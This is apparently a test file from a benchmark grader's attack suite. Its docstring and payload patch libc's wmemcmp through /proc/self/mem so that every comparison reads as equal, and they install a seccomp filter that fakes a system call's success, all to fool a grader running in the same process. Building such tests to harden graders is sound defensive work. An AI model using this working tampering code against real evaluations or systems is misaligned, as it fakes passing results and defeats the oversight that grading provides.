"""Machine code of its own, where the grader's would run.

Strategy: write over the code of a library that probe and serializer use, through /proc/self/mem,
which heeds no protection of a page; and have a filter of system calls answer in place of Linux.
Surface: a judge in the same process, as pygpubench's exploits `function_detour`, `got_patch`,
`proc_mem_bypass` and `seccomp_trap` have it.
"""

from tests.attacks.arena import Attack

DETOUR = r"""
import ctypes, os, platform
# wmemcmp says that all is equal, whatever it is asked to compare.
code = {"x86_64": b"\x31\xc0\xc3", "aarch64": b"\x00\x00\x80\x52\xc0\x03\x5f\xd6"}
libc = ctypes.CDLL(None)
place = ctypes.cast(libc.wmemcmp, ctypes.c_void_p).value
with open("/proc/self/mem", "r+b", 0) as memory:
    memory.seek(place)
    memory.write(code[platform.machine()])
print("detour", libc.wmemcmp("right", "wrong", 5) == 0)
class Filter(ctypes.Structure):
    _fields_ = [("count", ctypes.c_ushort), ("code", ctypes.c_void_p)]
held = ctypes.create_string_buffer(
    b"\x20\0\0\0\0\0\0\0" b"\x15\0\0\1" + (118).to_bytes(4, "little")  # getresuid of x86_64
    + b"\x06\0\0\0\0\0\5\0" b"\x06\0\0\0\0\0\xff\x7f", 32)  # "done", though nothing is; as usual
filtered = libc.prctl(22, 2, ctypes.byref(Filter(4, ctypes.addressof(held))), 0, 0)
print("filter", filtered)
"""

ATTACK = Attack(after=(DETOUR,), answer="wrong", says="detour True")
